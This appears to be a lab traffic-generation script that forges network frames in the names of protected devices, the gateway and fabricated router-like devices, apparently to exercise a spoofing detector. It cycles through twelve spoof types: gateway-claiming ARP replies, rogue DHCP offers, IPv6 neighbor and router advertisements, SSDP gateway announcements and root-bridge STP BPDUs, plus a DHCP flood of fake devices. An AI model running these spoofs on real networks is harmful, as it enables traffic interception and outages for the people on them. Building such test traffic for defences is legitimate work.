"""Frames in the names of others, of twelve kinds in turn, for a lab only.

forge.py FRAMES protected MAC,MAC,...   as many frames, in the names of these, of the gateway and of made-up devices
forge.py DEVICES made-up                so many made-up devices at once, each of which looks like a home router"""
import os, sys
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from frames import *

number, whom = int(sys.argv[1]), sys.argv[2]
port = Port()


def made_up(n):
    return '50:c7:bf:%02x:%02x:%02x' % (n >> 16 & 255, n >> 8 & 255, n & 255), '10.20.0.%d' % (2 + n % 90)


def asks(who, name='TL-WR841N'):
    options = option(12, name.encode()) + option(60, b'udhcp 1.35.0') + option(55, bytes([1, 3, 6, 12, 15, 28, 42]))
    return eth(BROADCAST, who, 0x800, udp('0.0.0.0', '255.255.255.255', 68, 67, dhcp(1, who, 1, options)))


def opens(who, address, ttl):
    return eth(GATEWAY, who, 0x800, syn(address, WEB, random.randrange(1024, 65536), 80, ttl=ttl))


if whom == 'made-up':
    # All at once: first they speak, then all of them forward.
    everybody = [made_up(0x100000 + n) for n in range(number)]
    for who, _ in everybody:
        port.send(asks(who), gap=0.001)
    for ttl in (63, 63, 127):
        for who, address in everybody:
            port.send(opens(who, address, ttl), gap=0.0005)
    sys.exit()

protected = sys.argv[3].split(',')
KINDS = [
    lambda v, a, o, b: asks(v),
    lambda v, a, o, b: opens(v, a, 63),
    lambda v, a, o, b: opens(v, a, 127),
    lambda v, a, o, b: arp(2, v, GATEWAY_4, '00:00:00:00:00:00', GATEWAY_4),
    lambda v, a, o, b: arp(1, o, a, '00:00:00:00:00:00', a),
    lambda v, a, o, b: eth(BROADCAST, v, 0x800, udp(a, '255.255.255.255', 67, 68, dhcp(
        2, o, 2, option(54, ip4(a)) + option(51, b'\0\0\x0e\x10') + option(3, ip4(a)), yiaddr=b))),
    lambda v, a, o, b: asks(o),
    lambda v, a, o, b: eth('33:33:00:00:00:01', v, 0x86dd, advertisement(GATEWAY_6, v, 0xa0000000)),
    lambda v, a, o, b: eth('33:33:00:00:00:01', o, 0x86dd, router_advertisement('fe80::' + o[9:11] + o[12:14], o)),
    lambda v, a, o, b: eth('01:00:5e:7f:ff:fa', v, 0x800, ssdp_gateway(a, 'http://%s/gate.xml' % a)),
    lambda v, a, o, b: llc('01:80:c2:00:00:00', v, bpdu(v, v)),
    lambda v, a, o, b: opens(GATEWAY, GATEWAY_4, 63),
]
for n in range(number):
    turn = n // len(KINDS)
    v = protected[turn % len(protected)]
    o, b = made_up(turn)
    port.send(KINDS[n % len(KINDS)](v, '10.20.0.%d' % (150 + turn % len(protected)), o, b), gap=0.0002)
